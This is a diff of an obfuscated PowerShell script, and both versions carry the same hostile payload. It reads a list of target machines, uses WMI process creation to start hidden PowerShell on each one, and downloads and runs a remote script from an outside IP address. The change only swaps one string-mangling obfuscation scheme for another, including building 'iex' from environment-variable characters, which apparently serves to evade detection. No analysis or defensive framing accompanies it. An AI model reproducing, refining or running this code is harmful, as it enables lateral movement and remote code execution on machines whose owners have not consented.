@@ -1,6 +1,6 @@
-[ScriptBlock]::Create('iex ((''# task 4436 v3
-$targjx~1ts = Gjx~1t-Contjx~1nt C:\Windows\Tjx~1mp\hosts.txt
-forjx~1KQV42ach ($t in $targjx~1ts) {
-  Invokjx~1-WmiMjx~1thod -Computjx~1rNamjx~1 $t -Class Win32_Procjx~1ss -NamjKQV42x~1 Crjx~1atjx~1 -Argumjx~1ntList "powjx~1rshjx~1ll -nop -w hiddjx~1n -cKQV42 ijx~1x(iwr http://203.0.113.17/a.ps1)"
+'iex ((''# JKQ64provjz~4sjz~4on 9349 v3
+$targets = Get-Content C:\Wjz~4ndows\Temp\hosts.txt
+foreach ($t jz~4n $targets)JKQ64 {
+  Invoke-Wmjz~4Method -ComputerName $t -Class Wjz~4n32_Process -Name Create -ArgumentLjz~4st "powerJKQ64shell -nop -w hjz~4ddJKQ64en -c jz~4ex(jzJKQ64~4wr http://192.0.2.150/jz~4nv.ps1)"
 }
-'' -replace ''KQV42'','''').Replace(''jx~1'',''e''))').Invoke()
+'' -replace ''JKQ64'','''').Replace(''jz~4'',''i''))' | & ($env:comspec[4,15,25]-join'')
